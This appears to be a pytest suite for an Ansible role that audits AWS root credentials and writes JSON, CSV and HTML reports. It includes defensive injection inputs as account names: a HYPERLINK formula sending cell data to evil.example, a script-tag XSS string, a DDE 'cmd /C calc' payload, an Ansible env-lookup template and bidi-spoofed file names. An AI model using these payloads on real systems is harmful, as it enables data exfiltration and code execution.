"""The root_credentials_audit role and the audit_organization.yml playbook, through real
ansible-playbook runs against the emulator.

The JSON, CSV and HTML reports are compared with the seeded truth account by account; the
HTML report is opened in headless Chromium (Debian's ``chromium``, which ``make browser``
installs) and read back from the page's DOM."""

from __future__ import annotations

import collections
import csv
import datetime
import html.parser
import json
import pathlib
import re
import stat

import markupsafe
import pytest
from moto.organizations.models import organizations_backends

from conftest import headless_dom
from test_compliance_over_time import EXPECTED, kinds_of
from rootguard_emulator import orgs

MANAGEMENT = "123456789012"
RCM = "RootCredentialsManagement"
PLAYBOOK = str(pathlib.Path(__file__).parents[2] / "playbooks" / "audit_organization.yml")
INCLUDE = "audit_role_include.yml"
REPORT = "root-credentials-audit"
SECRET_MARKERS = ("CertificateBody", "-----BEGIN", "SecretAccessKey", "SessionToken")
CSV_HEADER = ["account_id", "account_name", "ou_path", "parent_id", "status", "compliant", "password", "access_keys", "active_access_keys",
              "signing_certificates", "mfa_devices", "reason", "error_class", "error_message", "blocked_by", "guardrails_blocked_tasks",
              "guardrails_uncertain_tasks", "findings", "highest_severity", "change", "new_findings", "resolved_findings"]
COUNTS = ("access_keys", "active_access_keys", "signing_certificates", "mfa_devices")
OUTCOMES = ("compliant", "noncompliant", "skipped", "blocked", "failed")
BADGES = {"compliant": "compliant", "noncompliant": "non-compliant", "skipped": "skipped", "blocked": "blocked", "failed": "failed"}
NOT_APPLICABLE = "\u2014"


# ---------------------------------------------------------------------------
# The truth, as the reports must show it


def expected_rows(truth: dict, failed: dict | None = None) -> dict:
    """Account id -> the report row the seeded organization must give (the management
    account included); ``failed`` maps an account id to the error class it fails with."""
    failed = failed or {}
    rows = {MANAGEMENT: {"status": "skipped", "outcome": "skipped", "reason": "management_account", "ou_path": "/",
                         "parent_id": truth["root_id"], "error_class": None,
                         **dict.fromkeys(("compliant", "password") + COUNTS)}}
    for account in truth["accounts"]:
        row = {"name": account["name"], "ou_path": account["ou_path"], "parent_id": account["parent_id"]}
        if account["state"] != "ACTIVE":
            row.update(status="skipped", outcome="skipped", reason="not_active", error_class=None,
                       **dict.fromkeys(("compliant", "password") + COUNTS))
        elif account["id"] in failed:
            row.update(status="failed", outcome="failed", reason=None, error_class=failed[account["id"]],
                       **dict.fromkeys(("compliant", "password") + COUNTS))
        else:
            user = account["root_user"]
            row.update(
                status="ok", outcome="noncompliant" if user["has_credentials"] else "compliant", reason=None, error_class=None,
                compliant=not user["has_credentials"], password=user["password"], access_keys=len(user["access_keys"]),
                active_access_keys=sum(1 for key in user["access_keys"] if key["status"] == "Active"),
                signing_certificates=len(user["signing_certificates"]), mfa_devices=len(user["mfa_devices"]))
        rows[account["id"]] = row
    return rows


def expected_summary(rows: dict) -> dict:
    outcomes = collections.Counter(row["outcome"] for row in rows.values())
    return {
        "total": len(rows),
        "audited": sum(1 for row in rows.values() if row["status"] == "ok"),
        **{outcome: outcomes[outcome] for outcome in OUTCOMES},
        "accounts_with_password": sum(1 for row in rows.values() if row["password"]),
        "accounts_with_access_keys": sum(1 for row in rows.values() if row["access_keys"]),
        "accounts_with_signing_certificates": sum(1 for row in rows.values() if row["signing_certificates"]),
        "accounts_with_mfa_devices": sum(1 for row in rows.values() if row["mfa_devices"]),
    }


def expected_findings_summary(truth: dict) -> dict:
    """The findings' counts by severity the seeded root users must give (every ACTIVE account audited)."""
    severities = collections.Counter(EXPECTED[kind][0] for account in truth["accounts"] if account["state"] == "ACTIVE"
                                     for kind in kinds_of(account["root_user"]))
    return {**{severity.lower(): severities[severity] for severity in ("CRITICAL", "HIGH", "MEDIUM", "LOW")}, "total": sum(severities.values())}


def without_findings(summary: dict) -> dict:
    return {key: value for key, value in summary.items() if key != "findings"}


def expected_ous(rows: dict) -> dict:
    ous: dict = {}
    for row in rows.values():
        counts = ous.setdefault(row["parent_id"], {"ou_path": row["ou_path"], "accounts": 0, **dict.fromkeys(OUTCOMES, 0)})
        counts["accounts"] += 1
        counts[row["outcome"]] += 1
    return ous


# ---------------------------------------------------------------------------
# Reading the reports


def report_paths(report_dir: pathlib.Path, name: str = REPORT) -> dict:
    return {fmt: report_dir / f"{name}.{fmt}" for fmt in ("json", "csv", "html")}


def read_json(report_dir: pathlib.Path) -> dict:
    return json.loads(report_paths(report_dir)["json"].read_text(encoding="utf-8"))


def read_csv(report_dir: pathlib.Path) -> list:
    with report_paths(report_dir)["csv"].open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        assert header == CSV_HEADER
        return [dict(zip(header, row, strict=True)) for row in reader]


def csv_text(value) -> str:
    """A value as the CSV report writes it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    return str(value)


def assert_rows(report: dict, rows: dict) -> None:
    """The JSON report's accounts are the expected rows, in account id order."""
    accounts = report["accounts"]
    assert [entry["id"] for entry in accounts] == sorted(rows)
    for entry in accounts:
        expected = rows[entry["id"]]
        for key, value in expected.items():
            assert entry[key] == value, (entry["id"], key, entry)
        if entry["status"] == "ok":
            assert entry["error_message"] is None and entry["found"]["compliant"] is entry["compliant"]
        elif entry["status"] == "skipped":
            assert entry["found"] is None and entry["error_message"], entry
        else:
            assert entry["found"] is None and entry["error_message"] and entry["aws_error_code"], entry


def assert_found(report: dict, truth: dict) -> None:
    """Each audited account's full ``found`` data names exactly the seeded credentials."""
    accounts = {entry["id"]: entry for entry in report["accounts"]}
    for account in truth["accounts"]:
        found = accounts[account["id"]]["found"]
        if found is None:
            continue
        user = account["root_user"]
        assert set(found) == {"password", "access_keys", "signing_certificates", "mfa_devices", "compliant"}
        assert found["password"]["present"] is user["password"]
        assert [(key["id"], key["status"]) for key in found["access_keys"]] == [(key["id"], key["status"]) for key in user["access_keys"]]
        assert [cert["id"] for cert in found["signing_certificates"]] == [cert["id"] for cert in user["signing_certificates"]]
        assert [(device["serial"], device["type"]) for device in found["mfa_devices"]] == [
            (device["serial"], device["type"]) for device in user["mfa_devices"]]


def assert_no_secrets(report_dir: pathlib.Path) -> None:
    for path in report_dir.iterdir():
        text = path.read_text(encoding="utf-8")
        for marker in SECRET_MARKERS:
            assert marker not in text, (path.name, marker)


def assert_report_files(report_dir: pathlib.Path, formats=("json", "csv", "html"), results=("audit", "guardrails")) -> None:
    """The reports, and the modules' whole results (their accounts files) beside them; every file private."""
    assert stat.S_IMODE(report_dir.stat().st_mode) == 0o700
    assert sorted(path.name for path in report_dir.iterdir()) == sorted(
        [f"{REPORT}.{fmt}" for fmt in formats] + [f"{REPORT}.{module}-result.json" for module in results])
    for path in report_dir.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name


# ---------------------------------------------------------------------------
# The HTML report in headless Chromium


def dump_dom(page: pathlib.Path, tmp_path: pathlib.Path) -> str:
    """The report's DOM after Chromium has loaded it, serialized as HTML."""
    dom = headless_dom(page, tmp_path, "the HTML report test")
    assert "data-account-id" in dom or "<table" in dom, dom[:4000]
    return dom


class ReportDom(html.parser.HTMLParser):
    """What the report's machine hooks hold: the report info (dl#report-info dd[data-field]),
    the summary (dd[data-metric]), the OU rows (table#ous tr[data-ou-id]) and the account
    rows (table#accounts tr[data-account-id]), each as {data-field: text}; plus a count of
    every element by tag."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.stack: list = []
        self.captures: list = []
        self.row: dict | None = None
        self.info: dict = {}
        self.summary: dict = {}
        self.ous: dict = {}
        self.accounts: dict = {}
        self.row_attributes: dict = {}
        self.tags: collections.Counter = collections.Counter()
        self.feed(text)
        self.close()

    def inside(self, tag: str, element_id: str) -> bool:
        return any(name == tag and attributes.get("id") == element_id for name, attributes in self.stack)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        if tag in self.VOID:
            return
        attributes = dict(attrs)
        self.stack.append((tag, attributes))
        if tag == "tr" and self.inside("table", "accounts") and "data-account-id" in attributes:
            self.row = self.accounts.setdefault(attributes["data-account-id"], {})
            self.row_attributes[attributes["data-account-id"]] = attributes
        elif tag == "tr" and self.inside("table", "ous") and "data-ou-id" in attributes:
            self.row = self.ous.setdefault(attributes["data-ou-id"], {})
        if "data-metric" in attributes and self.inside("dl", "summary"):
            self.captures.append((len(self.stack), self.summary, attributes["data-metric"], []))
        if "data-field" in attributes:
            target = self.row if self.row is not None else (self.info if self.inside("dl", "report-info") else None)
            if target is not None:
                self.captures.append((len(self.stack), target, attributes["data-field"], []))

    def handle_data(self, data):
        for capture in self.captures:
            capture[3].append(data)

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        depth = len(self.stack)
        for capture in [capture for capture in self.captures if capture[0] == depth]:
            capture[1][capture[2]] = "".join(capture[3]).strip()
            self.captures.remove(capture)
        name, _attributes = self.stack.pop()
        assert name == tag, (name, tag)
        if tag == "tr":
            self.row = None


def dom_value(text: str | None):
    """A cell's text as the value it shows: None for an absent or not-applicable cell."""
    if text is None or text in ("", NOT_APPLICABLE):
        return None
    return text


def assert_html_rows(dom: ReportDom, rows: dict) -> None:
    assert list(dom.accounts) == sorted(rows)
    for account_id, expected in rows.items():
        cells, attributes = dom.accounts[account_id], dom.row_attributes[account_id]
        assert (attributes["data-status"], attributes["data-outcome"]) == (expected["status"], expected["outcome"]), account_id
        assert cells["id"] == account_id
        assert cells["ou_path"] == expected["ou_path"]
        if "name" in expected:
            assert cells["name"] == expected["name"].strip()
        assert cells["outcome"] == BADGES[expected["outcome"]]
        for key in ("compliant", "password"):
            assert dom_value(cells[key]) == (None if expected[key] is None else csv_text(expected[key])), (account_id, key, cells)
        for key in COUNTS:
            assert dom_value(cells[key]) == (None if expected[key] is None else str(expected[key])), (account_id, key, cells)
        assert cells.get("reason") == expected["reason"], (account_id, cells)
        assert cells.get("error_class") == expected["error_class"], (account_id, cells)
        assert bool(cells.get("error_message")) is (expected["status"] != "ok"), (account_id, cells)


# ---------------------------------------------------------------------------
# Helpers for runs


def audit(run_playbook, report_dir: pathlib.Path, check: bool = False, **variables):
    return run_playbook(PLAYBOOK, {"rootguard_report_dir": str(report_dir), **variables}, check=check)


def rename_account(account_id: str, name: str) -> None:
    """Give an account a name its owner could choose; the emulator runs in this process."""
    account = orgs.find_account(organizations_backends[MANAGEMENT]["aws"], account_id)
    assert account is not None
    account.name = name


# ---------------------------------------------------------------------------
# Tests


def test_json_and_csv_reports_match_the_seeded_truth(control, run_playbook, tmp_path):
    truth = control.seed(accounts=25, profile="mixed", features=[RCM], trusted_access=True)
    control.clear_requests()
    report_dir = tmp_path / "audit" / "reports"

    run = audit(run_playbook, report_dir, rootguard_concurrency=8)

    assert run.returncode == 0, run.stdout + run.stderr
    assert run.recap()["localhost"]["changed"] == 0
    assert_report_files(report_dir)
    rows = expected_rows(truth)
    summary = expected_summary(rows)
    # The mixed cycle gives every outcome but failed, and every kind of credential.
    assert summary["compliant"] and summary["noncompliant"] and summary["skipped"] > 1
    assert all(summary[f"accounts_with_{kind}"] for kind in ("password", "access_keys", "signing_certificates", "mfa_devices"))

    report = read_json(report_dir)
    assert report["schema_version"] == 4
    assert report["title"] == "Root credentials audit"
    assert report["organization_id"] == truth["organization_id"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", report["generated_at"])
    assert datetime.datetime.fromisoformat(report["generated_at"]).tzinfo == datetime.timezone.utc
    assert report["targeting"] == {"selector": "all_accounts", "account_ids": [], "organizational_unit_ids": [],
                                   "all_accounts": True, "exclude_account_ids": []}
    assert_rows(report, rows)
    assert_found(report, truth)
    assert report["summary"] == {**summary, "findings": expected_findings_summary(truth)}
    assert report["summary"]["findings"]["total"] == len(report["findings"]) > 0
    assert report["organizational_units"] == expected_ous(rows)
    for key in ("accounts", *OUTCOMES):
        assert sum(counts[key] for counts in report["organizational_units"].values()) == summary["total" if key == "accounts" else key]
    assert set(report) == {"schema_version", "title", "organization_id", "generated_at", "targeting", "summary",
                           "organizational_units", "guardrails", "findings", "accounts", "drift"}
    assert report["drift"] is None
    # The guardrails were checked (the default); SCPs and RCPs are not enabled in this organization, so nothing blocks.
    assert report["guardrails"]["checked"] is True and report["guardrails"]["remedies"] == []
    assert all(row["guardrails_blocked_tasks"] == {} for row in report["accounts"] if row["status"] == "ok")

    csv_rows = read_csv(report_dir)
    assert [row["account_id"] for row in csv_rows] == sorted(rows)
    by_id = {entry["id"]: entry for entry in report["accounts"]}
    for row in csv_rows:
        expected, entry = rows[row["account_id"]], by_id[row["account_id"]]
        assert row["account_name"] == (entry["name"] or "")
        for key in ("ou_path", "status", "compliant", "password", *COUNTS, "reason", "error_class"):
            assert row[key] == csv_text(expected[key]), (row["account_id"], key, row)
        assert row["error_message"] == csv_text(entry["error_message"])

    assert_no_secrets(report_dir)
    assert "Reports: csv: " + str(report_paths(report_dir)["csv"]) in run.stdout
    assert f"{summary['compliant']} compliant, {summary['noncompliant']} with root credentials left" in run.stdout
    log = control.requests()
    assert log["writes"] == 0
    assert not [entry for entry in log["entries"] if entry["rejected"]]


def test_html_report_in_headless_chromium_shows_the_seeded_truth(control, run_playbook, tmp_path):
    truth = control.seed(accounts=25, profile="mixed", features=[RCM], trusted_access=True)
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir)

    assert run.returncode == 0, run.stdout + run.stderr
    page = report_paths(report_dir)["html"]
    raw = page.read_text(encoding="utf-8")
    # Self-contained: no script, no stylesheet link, no image, nothing fetched from anywhere.
    for needle in ("<script", "<link", "<img", "<iframe", "src=", "url(", "@import", "http://", "https://"):
        assert needle not in raw.lower(), needle

    dom = ReportDom(dump_dom(page, tmp_path))

    assert dom.tags["script"] == 0
    rows = expected_rows(truth)
    assert dom.info["organization_id"] == truth["organization_id"]
    assert dom.info["generated_at"] == read_json(report_dir)["generated_at"]
    assert dom.info["targeting"] == "all accounts"
    assert {key: int(value) for key, value in dom.summary.items()} == expected_summary(rows)
    assert {ou_id: {key: cells["ou_path"] if key == "ou_path" else int(value) for key, value in cells.items() if key != "ou_id"}
            for ou_id, cells in dom.ous.items()} == expected_ous(rows)
    assert all(cells["ou_id"] == ou_id for ou_id, cells in dom.ous.items())
    assert_html_rows(dom, rows)


def test_check_mode_writes_the_reports_without_a_write_call_and_a_rerun_changes_nothing(control, run_playbook, tmp_path):
    truth = control.seed(accounts=10, profile="mixed", features=[RCM], trusted_access=True)
    report_dir = tmp_path / "reports"
    rows = expected_rows(truth)

    control.clear_requests()
    checked = audit(run_playbook, report_dir, check=True)

    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert checked.recap()["localhost"]["changed"] == 0
    assert control.requests()["writes"] == 0
    assert_report_files(report_dir)
    first = read_json(report_dir)
    assert_rows(first, rows)
    assert len(read_csv(report_dir)) == len(rows)

    control.clear_requests()
    again = audit(run_playbook, report_dir)

    assert again.returncode == 0, again.stdout + again.stderr
    assert again.recap()["localhost"]["changed"] == 0
    assert control.requests()["writes"] == 0
    assert_report_files(report_dir)
    second = read_json(report_dir)
    # Nothing in the organization changed: neither did the report, but for its time.
    assert {**second, "generated_at": None} == {**first, "generated_at": None}
    for account in truth["accounts"]:
        assert control.root_user(account["id"]) == account["root_user"]


def test_account_names_with_html_csv_and_template_metacharacters_are_shown_as_they_are(control, run_playbook, tmp_path):
    truth = control.seed(accounts=4, profile="full", features=[RCM], trusted_access=True)
    names = {
        truth["accounts"][0]["id"]: '=HYPERLINK("https://evil.example/?"&A1,"x"), <script>alert(\'x\')</script> & more',
        truth["accounts"][1]["id"]: '@SUM(1+1)\nline two, "quoted" <b>bold</b> &amp; done',
        truth["accounts"][2]["id"]: "+plus-and-minus-</td></tr></table><h1 id=\"summary\">",
        # Not a template either.
        truth["accounts"][3]["id"]: "a comma, {{ 7 * 7 }} {% if true %}x{% endif %} {{ lookup('ansible.builtin.env', 'HOME') }}",
    }
    for account_id, name in names.items():
        rename_account(account_id, name)
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir, rootguard_fail_on_noncompliant=False)

    assert run.returncode == 0, run.stdout + run.stderr
    report = read_json(report_dir)
    assert {entry["id"]: entry["name"] for entry in report["accounts"] if entry["id"] in names} == names

    csv_rows = {row["account_id"]: row for row in read_csv(report_dir)}
    assert len(csv_rows) == 5
    for account_id, name in names.items():
        formula = name[0] in "=+-@"
        assert csv_rows[account_id]["account_name"] == ("'" + name if formula else name)
        # The rest of the row is intact: the name's commas, quotes and line break stayed in its field.
        assert (csv_rows[account_id]["status"], csv_rows[account_id]["compliant"], csv_rows[account_id]["access_keys"]) == ("ok", "no", "2")

    page = report_paths(report_dir)["html"]
    raw = page.read_text(encoding="utf-8")
    assert "<script" not in raw and "<b>" not in raw and "</table><h1" not in raw
    assert "&lt;script&gt;" in raw and "&amp;amp; done" in raw
    dom = ReportDom(dump_dom(page, tmp_path))
    assert dom.tags["script"] == 0 and dom.tags["b"] == 0 and dom.tags["h1"] == 1 and dom.tags["table"] == 4  # OUs, guardrail tasks, findings, accounts
    for account_id, name in names.items():
        assert dom.accounts[account_id]["name"] == name
    assert_html_rows(dom, expected_rows(truth) | {account_id: {**expected_rows(truth)[account_id], "name": name}
                                                  for account_id, name in names.items()})


def test_fail_on_noncompliant_fails_after_writing_the_reports(control, run_playbook, tmp_path):
    truth = control.seed(accounts=5, profile="mixed", features=[RCM], trusted_access=True)
    rows = expected_rows(truth)
    noncompliant = sorted(account_id for account_id, row in rows.items() if row["outcome"] == "noncompliant")
    assert noncompliant and any(row["outcome"] == "compliant" for row in rows.values())
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir, rootguard_fail_on_noncompliant=True)

    assert run.returncode != 0
    assert run.recap()["localhost"]["failed"] == 1
    assert f"{len(noncompliant)} of {expected_summary(rows)['audited']} audited accounts still have root credentials" in run.stdout
    assert ", ".join(noncompliant) in run.stdout
    assert str(report_paths(report_dir)["html"]) in run.stdout
    assert_report_files(report_dir)
    assert_rows(read_json(report_dir), rows)
    assert len(read_csv(report_dir)) == len(rows)


def test_fail_on_noncompliant_passes_when_every_audited_account_is_clean(control, run_playbook, tmp_path):
    truth = control.seed(accounts=3, profile="none", features=[RCM], trusted_access=True)
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir, rootguard_fail_on_noncompliant=True)

    assert run.returncode == 0, run.stdout + run.stderr
    assert read_json(report_dir)["summary"]["compliant"] == len(truth["accounts"])


def test_an_account_denied_by_an_scp_is_reported_as_failed_and_fails_the_play_afterwards(control, run_playbook, tmp_path):
    truth = control.seed(accounts=6, profile="full", features=[RCM], trusted_access=True)
    denied = truth["accounts"][2]["id"]
    control.add_fault(kind="scp_deny", service="iam", account=denied)
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir)

    assert run.returncode != 0
    assert run.recap()["localhost"]["failed"] == 1
    assert f"1 of 7 accounts could not be audited: {denied} denied_by_scp" in run.stdout
    # The summary and where the reports are is still shown.
    assert "Reports: csv: " in run.stdout and "1 failed" in run.stdout
    assert_report_files(report_dir)
    rows = expected_rows(truth, failed={denied: "denied_by_scp"})
    report = read_json(report_dir)
    assert_rows(report, rows)
    entry = next(entry for entry in report["accounts"] if entry["id"] == denied)
    assert entry["aws_error_code"] == "AccessDenied" and "service control policy" in entry["error_message"]
    assert without_findings(report["summary"]) == expected_summary(rows) and report["summary"]["failed"] == 1
    csv_row = next(row for row in read_csv(report_dir) if row["account_id"] == denied)
    assert (csv_row["status"], csv_row["compliant"], csv_row["error_class"]) == ("failed", "", "denied_by_scp")
    assert "service control policy" in csv_row["error_message"]


def test_account_ids_given_as_a_string_with_one_the_organization_does_not_hold(control, run_playbook, tmp_path):
    truth = control.seed(accounts=3, profile="mixed", features=[RCM], trusted_access=True)
    chosen = [truth["accounts"][0]["id"], truth["accounts"][2]["id"]]
    unknown = "999999999999"
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir, rootguard_account_ids=f"{chosen[0]}, {unknown},{chosen[1]}", rootguard_concurrency="2")

    assert run.returncode == 0, run.stdout + run.stderr
    report = read_json(report_dir)
    assert report["targeting"] == {"selector": "account_ids", "account_ids": [chosen[0], unknown, chosen[1]], "organizational_unit_ids": [],
                                   "all_accounts": False, "exclude_account_ids": []}
    rows = {account_id: row for account_id, row in expected_rows(truth).items() if account_id in chosen}
    rows[unknown] = {"status": "skipped", "outcome": "skipped", "reason": "not_in_organization", "ou_path": None, "parent_id": None, "name": None,
                     "error_class": None, **dict.fromkeys(("compliant", "password") + COUNTS)}
    assert_rows(report, rows)
    assert without_findings(report["summary"]) == expected_summary(rows)
    assert report["organizational_units"] == {"(not in organization)": {"ou_path": None, "accounts": 1, "compliant": 0, "noncompliant": 0,
                                                                        "skipped": 1, "blocked": 0, "failed": 0},
                                              **expected_ous({key: row for key, row in rows.items() if key != unknown})}
    row = next(row for row in read_csv(report_dir) if row["account_id"] == unknown)
    assert (row["account_name"], row["ou_path"], row["status"], row["reason"]) == ("", "", "skipped", "not_in_organization")
    assert f'data-account-id="{unknown}"' in report_paths(report_dir)["html"].read_text(encoding="utf-8")


def test_the_role_included_with_ou_targeting_leaves_its_facts_for_the_caller(control, run_playbook, tmp_path):
    truth = control.seed(accounts=21, profile="mixed", features=[RCM], trusted_access=True)
    workloads = next(ou for ou in truth["organizational_units"] if ou["name"] == "Workloads")
    in_workloads = [account for account in truth["accounts"] if account["ou_path"].startswith(workloads["path"])]
    active = [account for account in in_workloads if account["state"] == "ACTIVE"]
    excluded, denied = active[0]["id"], active[1]["id"]
    control.add_fault(kind="scp_deny", service="iam", account=denied)
    report_dir = tmp_path / "role-reports"

    run = run_playbook(INCLUDE, {
        "root_credentials_audit_organizational_unit_ids": [workloads["id"]],
        "root_credentials_audit_exclude_account_ids": [excluded],
        "root_credentials_audit_report_dir": str(report_dir),
        "root_credentials_audit_report_name": "workloads",
        "root_credentials_audit_report_formats": ["json", "html"],
        "root_credentials_audit_report_title": "Workloads <root> audit",
        "root_credentials_audit_fail_on_error": False,
    })

    assert run.returncode == 0, run.stdout + run.stderr
    facts = run.result("audit_role")
    reports = {fmt: report_dir / f"workloads.{fmt}" for fmt in ("json", "html")}
    assert facts["reports"] == {fmt: str(path) for fmt, path in reports.items()}
    assert sorted(path.name for path in report_dir.iterdir()) == [
        "workloads.audit-result.json", "workloads.guardrails-result.json", "workloads.html", "workloads.json"]
    report = json.loads(reports["json"].read_text(encoding="utf-8"))
    assert report["title"] == "Workloads <root> audit"
    assert report["targeting"] == {"selector": "organizational_unit_ids", "account_ids": [], "organizational_unit_ids": [workloads["id"]],
                                   "all_accounts": False, "exclude_account_ids": [excluded]}
    result = facts["result"]
    assert result["organization_id"] == truth["organization_id"]
    assert [entry["id"] for entry in result["accounts"]] == [entry["id"] for entry in report["accounts"]]
    assert facts["summary"] == report["summary"]

    rows = {account_id: row for account_id, row in expected_rows(truth, failed={denied: "denied_by_scp"}).items()
            if account_id in {account["id"] for account in in_workloads}}
    rows[excluded].update(status="skipped", outcome="skipped", reason="excluded",
                          **dict.fromkeys(("compliant", "password") + COUNTS))
    assert_rows(report, rows)
    assert without_findings(report["summary"]) == expected_summary(rows)
    assert set(report["organizational_units"]) == {account["parent_id"] for account in in_workloads}
    assert "Workloads &lt;root&gt; audit" in reports["html"].read_text(encoding="utf-8")


def test_when_nothing_can_be_audited_the_role_fails_without_reports_and_forgets_earlier_ones(control, run_playbook, tmp_path):
    control.seed(accounts=2, profile="full", trusted_access=True)
    report_dir = tmp_path / "reports"

    run = run_playbook(INCLUDE, {"root_credentials_audit_report_dir": str(report_dir),
                                 # As left by an earlier run of the role in the same play.
                                 "earlier_reports": {"json": "/elsewhere/old.json"}, "earlier_summary": {"total": 1}})

    assert run.returncode != 0
    facts = run.result("audit_role")
    assert facts["result"]["failed"] is True and facts["result"]["error_class"] == "feature_not_enabled"
    assert (facts["reports"], facts["summary"]) == ({}, {})
    # The directory is made sure of (created, private) before any API call; no report is written, only the
    # guardrail check's whole result (it ran before the audit failed).
    assert [path.name for path in report_dir.iterdir()] == ["root-credentials-audit.guardrails-result.json"]


@pytest.mark.parametrize(("variables", "message"), [
    ({"root_credentials_audit_report_formats": ["json", "pdf"]}, "root_credentials_audit_report_formats"),
    ({"root_credentials_audit_all_accounts": False}, "Nothing to audit"),
    ({"root_credentials_audit_report_name": "../elsewhere"}, "root_credentials_audit_report_name must be a file name"),
], ids=["unknown-format", "nothing-targeted", "name-with-a-directory"])
def test_bad_role_variables_fail_before_any_api_call(control, run_playbook, tmp_path, variables, message):
    control.seed(accounts=2, profile="full", features=[RCM], trusted_access=True)
    control.clear_requests()
    report_dir = tmp_path / "reports"

    run = run_playbook(INCLUDE, {"root_credentials_audit_report_dir": str(report_dir), **variables})

    assert run.returncode != 0
    assert message in run.stdout + run.stderr
    assert control.requests()["entries"] == []
    assert not report_dir.exists()


# ---------------------------------------------------------------------------
# Text from AWS in the reports, on every supported ansible-core

# Control characters (but tab and line feed) and Unicode bidirectional controls: the CSV and HTML
# reports show them as visible escapes, the JSON report keeps the text exact.
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def visible(text: str) -> str:
    """The text as the CSV and HTML reports show it: each invisible character as its JSON escape (``\\u202e``)."""
    return INVISIBLE.sub(lambda match: json.dumps(match.group())[1:-1], text)


def rename_ou(ou_id: str, name: str) -> None:
    backend = organizations_backends[MANAGEMENT]["aws"]
    next(ou for ou in backend.ou if ou.id == ou_id).name = name


@pytest.mark.parametrize("core", [None, "2.17", "2.18"])
def test_non_ascii_control_and_bidirectional_characters_in_every_report(control, run_playbook, tmp_path, core):
    truth = control.seed(accounts=6, profile="full", features=[RCM], trusted_access=True)
    members = [account for account in truth["accounts"] if account["parent_id"] != truth["root_id"]]
    ou = next(ou for ou in truth["organizational_units"] if ou["id"] == members[0]["parent_id"])
    ou_name = "Payments \U0001f4b3 \u7d4c\u7406\u90e8 \u202egpj.exe\u202c"
    names = {
        truth["accounts"][0]["id"]: "ledger-\U0001f600-prod Cafe\u0301 \u6771\u4eac",
        truth["accounts"][1]["id"]: "evil\x1b[31mred\x1b[0m\rcleared\x07",
        truth["accounts"][2]["id"]: "=cmd|' /C calc'!A0\x1b[2J",
        truth["accounts"][3]["id"]: "\u2066admin\u2069 \u200f\u061c\u200e x\x85y",
    }
    for account_id, name in names.items():
        rename_account(account_id, name)
    rename_ou(ou["id"], ou_name)
    ou_path = ou["path"].rsplit("/", 2)[0] + "/" + ou_name + "/"
    report_dir = tmp_path / "reports"

    run = run_playbook(PLAYBOOK, {"rootguard_report_dir": str(report_dir)}, core=core)

    assert run.returncode == 0, run.stdout[-4000:] + run.stderr[-2000:]
    report = read_json(report_dir)
    by_id = {entry["id"]: entry for entry in report["accounts"]}
    assert {account_id: by_id[account_id]["name"] for account_id in names} == names
    assert by_id[members[0]["id"]]["ou_path"] == ou_path
    assert report["organizational_units"][ou["id"]]["ou_path"] == ou_path
    assert report["organizational_units"][ou["id"]]["accounts"] >= 1

    csv_rows = {row["account_id"]: row for row in read_csv(report_dir)}
    shown = {account_id: visible(name) for account_id, name in names.items()}
    assert shown[truth["accounts"][1]["id"]] == "evil\\u001b[31mred\\u001b[0m\\rcleared\\u0007"
    for account_id, text in shown.items():
        assert csv_rows[account_id]["account_name"] == ("'" + text if text[0] in "=+-@" else text)
    assert csv_rows[members[0]["id"]]["ou_path"] == visible(ou_path)
    assert "\\u202egpj.exe\\u202c" in visible(ou_path)

    raw_csv = report_paths(report_dir)["csv"].read_text(encoding="utf-8")
    page = report_paths(report_dir)["html"].read_text(encoding="utf-8")
    for raw in (raw_csv, page):
        assert not INVISIBLE.search(raw), INVISIBLE.search(raw)
        assert "\U0001f600" in raw and "\U0001f4b3" in raw and "Cafe\u0301" in raw and "\u6771\u4eac" in raw
    for text in [*shown.values(), visible(ou_path)]:
        assert str(markupsafe.escape(text)) in page, text


def test_ous_that_share_a_path_keep_their_own_rows(control, run_playbook, tmp_path):
    truth = control.seed(accounts=12, profile="mixed", features=[RCM], trusted_access=True)
    ous = {ou["name"]: ou for ou in truth["organizational_units"]}
    sandbox, production = ous["Sandbox"], ous["Production"]
    assert sandbox["parent_id"] == truth["root_id"] and production["path"] == "/Workloads/Production/"
    rename_ou(sandbox["id"], "Workloads/Production")  # an OU name may hold "/": its path is now Production's too
    report_dir = tmp_path / "reports"

    run = audit(run_playbook, report_dir)

    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-2000:]
    report = read_json(report_dir)
    members = collections.Counter(account["parent_id"] for account in truth["accounts"])
    assert members[sandbox["id"]] and members[production["id"]]
    for ou in (sandbox, production):
        assert report["organizational_units"][ou["id"]]["ou_path"] == "/Workloads/Production/"
        assert report["organizational_units"][ou["id"]]["accounts"] == members[ou["id"]]
    csv_rows = read_csv(report_dir)
    assert {row["parent_id"] for row in csv_rows if row["ou_path"] == "/Workloads/Production/"} == {sandbox["id"], production["id"]}
    page = report_paths(report_dir)["html"].read_text(encoding="utf-8")
    assert f'data-ou-id="{sandbox["id"]}"' in page and f'data-ou-id="{production["id"]}"' in page
